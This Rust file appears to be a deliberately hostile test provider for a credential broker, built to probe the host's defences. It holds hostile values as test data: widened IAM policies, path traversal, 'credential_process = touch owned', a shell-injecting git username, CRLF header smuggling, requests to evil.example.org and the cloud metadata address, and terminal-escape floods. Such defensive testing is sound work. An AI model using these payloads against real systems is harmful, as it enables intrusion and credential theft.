//! What is tried while minting.

use audex_sdk::provider::http::{Auth, Chunk, Header, HeaderKey, Request, Sigv4};
use audex_sdk::provider::sts::{RoleRequest, Session};
use audex_sdk::provider::*;

const ROLE: &str = "arn:aws:iam::123456789012:role/";

pub fn assume(
    role: &str,
    policy: &str,
    duration_seconds: u32,
    session_name: &str,
) -> Result<Session, Error> {
    sts::assume_role(&RoleRequest {
        role_arn: format!("{ROLE}{role}"),
        session_name: session_name.to_owned(),
        policy: policy.to_owned(),
        duration_seconds,
        external_id: None,
    })
}

pub fn mint(trick: &str, grant: &Grant, plan: Plan) -> Result<Minted, Error> {
    let planned = plan.policy.clone().unwrap_or_default();
    let planned = planned.as_str();
    if trick == "log" {
        (0..1000).for_each(|_| log::write(log::Level::Warn, &"\u{1b}[2J\nforged".repeat(100_000)));
    }
    if trick == "handles" {
        let hoard: Vec<_> = (0..100_000).map(|_| Secret::new("x")).collect();
        return Ok(minted(
            &plan,
            vec![secret("HOSTILE_TOKEN", hoard.into_iter().next().unwrap())],
            0,
        ));
    }
    if trick == "large-secret" {
        let text = "x".repeat(16 << 20);
        let hoard: Vec<_> = (0..900).map(|_| Secret::new(&text)).collect();
        return Ok(minted(
            &plan,
            vec![secret("HOSTILE_TOKEN", hoard.into_iter().next().unwrap())],
            0,
        ));
    }
    if trick == "large-policy" {
        let _ = sts::scope_down(&format!(r#"{{"Statement":{}"#, "[".repeat(20 << 20)), 900)?;
    }
    if trick == "keep-many" {
        (0..1000).for_each(|n| keep::put(&n.to_string(), &Secret::new("x")));
    }
    if trick == "sign" {
        let source = identity::token("secret:HOSTILE_SOURCE", &[])?.value;
        let signature = keys::sign(&source, "RS256", b"message")?;
        return Ok(minted(&plan, vec![secret("HOSTILE_TOKEN", signature)], 0));
    }
    if trick == "sign-joined" {
        let source = identity::token("secret:HOSTILE_SOURCE", &[])?.value;
        let frame = |text: &str| Piece::Plain(text.to_owned());
        let pieces = [
            frame("-----BEGIN PRIVATE KEY-----\n"),
            Piece::Secret(&source),
            frame("\n-----END PRIVATE KEY-----\n"),
        ];
        let signature = keys::sign(&Secret::join(&pieces), "RS256", b"message")?;
        return Ok(minted(&plan, vec![secret("HOSTILE_TOKEN", signature)], 0));
    }
    if let Some(trick) = trick.strip_prefix("http-") {
        return http_trick(trick, grant, &plan);
    }
    let ttl = grant.ttl_seconds.max(900);
    let session = match trick {
        "wider" => {
            assume("AudexDemo", &planned.replace("s3:GetObject", "s3:*"), ttl, &grant.session)?
        }
        "other-policy" => assume(
            "AudexDemo",
            &planned.replace("s3:ListBucket", "s3:GetObject"),
            ttl,
            &grant.session,
        )?,
        "two-actions" => {
            let twice = planned.replacen(r#""Action":"#, r#""Action":"*","Action":"#, 1);
            assume("AudexDemo", &twice, ttl, &grant.session)?
        }
        "without-deny" => {
            let allow = planned
                .split_once(r#",{"Effect":"Deny""#)
                .map_or(planned.to_owned(), |(allow, _)| format!("{allow}]}}"));
            assume("AudexDemo", &allow, ttl, &grant.session)?
        }
        "unscoped" => sts::session_token(ttl)?,
        "first-session" => {
            let down = r#"{"Statement":{"Effect":"Allow","Action":"sts:GetScopedCredentials","Resource":"*"}}"#;
            assume("AudexDemo", down, ttl, &grant.session)?
        }
        "long" => assume("AudexDemo", planned, 3600, &grant.session)?,
        "role" => assume("Other", planned, ttl, &grant.session)?,
        "fork" => {
            // Parts of two sessions, one of them of another policy.
            let wide = sts::session_token(ttl)?;
            let narrow = assume("AudexDemo", planned, ttl, &grant.session)?;
            let variables = vec![
                plain("AWS_ACCESS_KEY_ID", wide.access_key_id()),
                secret("AWS_SECRET_ACCESS_KEY", narrow.secret_access_key()),
                secret("AWS_SESSION_TOKEN", wide.session_token()),
            ];
            return Ok(minted(&plan, variables, narrow.expires_at()));
        }
        _ => assume("AudexDemo", planned, ttl, &grant.session)?,
    };
    let mut variables = vec![
        plain("AWS_ACCESS_KEY_ID", session.access_key_id()),
        secret("AWS_SECRET_ACCESS_KEY", session.secret_access_key()),
        secret("AWS_SESSION_TOKEN", session.session_token()),
    ];
    let mut expires_at = session.expires_at();
    match trick {
        "expiry" => expires_at -= 600,
        "later" => expires_at += 86_400,
        "undeclared" => variables.push(plain("AWS_PROFILE", "admin".to_owned())),
        "slot" => variables
            .push(secret("HOSTILE_TOKEN", identity::token("secret:HOSTILE_SOURCE", &[])?.value)),
        "kept-slot" => {
            keep::put("x", &identity::token("secret:HOSTILE_SOURCE", &[])?.value);
            variables.extend(keep::get("x").map(|kept| secret("HOSTILE_TOKEN", kept)));
        }
        _ => {}
    }
    let mut minted = minted(&plan, variables, expires_at);
    // There is something to settle and to revoke.
    let lives_on =
        ["settled-", "revoke-"].iter().any(|phase| crate::case::case().starts_with(phase));
    if lives_on {
        (minted.lease, minted.settle_seconds) = (Some("a lease".to_owned()), Some(1));
    }
    if crate::case::case() == "revoke-method" {
        minted.method = "other".to_owned();
    }
    match trick {
        "escape" => minted.files.push(file("../../escaped")),
        "isolation" => minted.files.push(file("aws-config")),
        "leads" => minted
            .files
            .push(File { env: Some("AWS_SESSION_TOKEN".to_owned()), ..file("aws-config") }),
        "control" => {
            minted.notices = vec!["\u{1b}[2J\nerror: forged".to_owned()];
            minted.method = "m\u{1b}c\nforged".to_owned();
            minted.identity = Some("i\u{1b}[2J".repeat(200_000));
        }
        "git-elsewhere" => minted = minted.git("evil.example", "git", Secret::new("x")),
        "git-ungranted" => {
            minted = minted.git("git.hostile.example", "git", Secret::new("x"));
        }
        "git-name" => {
            minted = minted.git("git.hostile.example", "x; touch owned", Secret::new("x"));
        }
        "git-lines" => minted = minted.git("git.hostile.example", "git", Secret::new("x\nurl=y")),
        "git-slot" => {
            let source = identity::token("secret:HOSTILE_SOURCE", &[])?.value;
            minted = minted.git("git.hostile.example", "git", source);
        }
        "long-answer" => minted.notices = vec!["n".repeat(20 << 20)],
        _ => {}
    }
    Ok(minted)
}

/// Posts a word to the granted host.
pub fn tell(word: &str) -> Result<(), Error> {
    let request = Request {
        method: "POST".to_owned(),
        url: format!("https://api.example.com/{word}"),
        headers: vec![],
        body: vec![Chunk::Plain(word.as_bytes().to_vec())],
        auth: None,
        lift: vec![],
        timeout_ms: None,
    };
    http::send(&request).map(|_| ())
}

fn http_trick(trick: &str, grant: &Grant, plan: &Plan) -> Result<Minted, Error> {
    let mut request = Request {
        method: "POST".to_owned(),
        url: "https://api.example.com/".to_owned(),
        headers: vec![],
        body: vec![],
        auth: None,
        lift: vec![],
        timeout_ms: Some(1000),
    };
    let header = |name: &str, chunk| Header { name: name.to_owned(), value: vec![chunk] };
    let session =
        || assume("AudexDemo", plan.policy.as_deref().unwrap_or_default(), 900, &grant.session);
    let key = |name: &str| {
        Auth::Header(HeaderKey { name: name.to_owned(), slot: "secret:HOSTILE_SOURCE".to_owned() })
    };
    let mut held;
    match trick {
        "elsewhere" => request.url = "https://evil.example.org/".to_owned(),
        "plain" => request.url = "http://api.example.com/".to_owned(),
        "port" => request.url = "https://api.example.com:8443/".to_owned(),
        "user" => request.url = "https://api.example.com@evil.example.org/".to_owned(),
        "address" => request.url = "https://169.254.169.254/latest/meta-data/".to_owned(),
        "header" => {
            request.headers = vec![header("Host", Chunk::Plain(b"evil.example.org".to_vec()))]
        }
        "smuggle" => {
            request.headers = vec![header("x-a", Chunk::Plain(b"1\r\nhost: evil".to_vec()))]
        }
        "many-headers" => {
            request.headers =
                (0..40_000).map(|n| header(&format!("x-{n}"), Chunk::Plain(vec![b'x']))).collect();
        }
        "key-header" => request.auth = Some(key("Host")),
        "sign" => {
            request.auth =
                Some(Auth::Aws(Sigv4 { service: "sts".to_owned(), region: "us-east-1".to_owned() }))
        }
        "sign-here" => {
            request.auth = Some(Auth::Aws(Sigv4 {
                service: "cloudtrail".to_owned(),
                region: "us-east-1".to_owned(),
            }))
        }
        "slot" => request.auth = Some(Auth::Bearer("secret:OTHER_SOURCE".to_owned())),
        "session" => {
            held = session()?.secret_access_key();
            request.body = vec![Chunk::Secret(&held)];
        }
        "session-header" => {
            held = session()?.session_token();
            request.headers = vec![header("authorization", Chunk::Secret(&held))];
        }
        "redirect" => {}
        "echo" | "echo-json" | "echo-form" | "echo-base64" | "echo-gzip" => {
            request.auth = Some(Auth::Bearer("secret:HOSTILE_SOURCE".to_owned()));
        }
        "echo-lift" | "echo-same" | "echo-key" => {
            held = identity::token("secret:HOSTILE_SOURCE", &[])?.value;
            let frame = |text: &str| Chunk::Plain(text.as_bytes().to_vec());
            request.body = vec![frame("{\"you\":\"<"), Chunk::JsonSecret(&held), frame(">\"}")];
            request.lift = vec!["/you".to_owned()];
        }
        // The first two characters of the secret and the text before it make an escape.
        "echo-frame" => {
            held = identity::token("secret:HOSTILE_SOURCE", &[])?.value;
            request.body = vec![Chunk::Plain(b"k=%2".to_vec()), Chunk::FormSecret(&held)];
        }
        "echo-layers" => {
            held = identity::token("secret:HOSTILE_SOURCE", &[])?.value;
            for _ in 0..4 {
                held = Secret::join(&[Piece::FormSecret(&held)]);
            }
            request.body = vec![Chunk::Secret(&held)];
        }
        "federate" => request.lift = vec!["/you".to_owned()],
        "lift" => request.lift = vec!["/a".to_owned(); 100_000],
        _ => {}
    }
    let mut reply = http::send(&request)?;
    let mut token = plain("HOSTILE_TOKEN", reply.status.to_string());
    if let Some(lifted) = reply.lifted.pop().flatten() {
        if trick == "federate" {
            let policy = plan.policy.as_deref().unwrap_or_default();
            let foreign = Session::from_keys("AKIAFOREIGNKEYS00000", &lifted, None, None);
            let _ = foreign.federation_token("words-for-elsewhere", policy, 900)?;
        }
        let signature = if trick == "echo-key" {
            Some(keys::sign(&lifted, "EdDSA", b"message")?)
        } else {
            None
        };
        token = secret("HOSTILE_TOKEN", signature.unwrap_or(lifted));
    }
    let mut minted = minted(plan, vec![token], clock::now() + 1);
    minted.notices = vec![String::from_utf8_lossy(&reply.body).into_owned()];
    Ok(minted)
}

fn minted(plan: &Plan, variables: Vec<Variable>, expires_at: u64) -> Minted {
    Minted {
        variables,
        files: vec![],
        endpoints: vec![],
        git: Vec::new(),
        expires_at,
        identity: None,
        credential_id: None,
        lease: None,
        settle_seconds: None,
        method: plan.method.clone(),
        notices: vec![],
    }
}

fn plain(name: &str, text: String) -> Variable {
    Variable { name: name.to_owned(), value: Value::Plain(text) }
}

fn secret(name: &str, value: Secret) -> Variable {
    Variable { name: name.to_owned(), value: Value::Secret(value) }
}

fn file(name: &str) -> File {
    File {
        name: name.to_owned(),
        contents: Value::Plain("[default]\ncredential_process = touch owned\n".into()),
        env: None,
    }
}
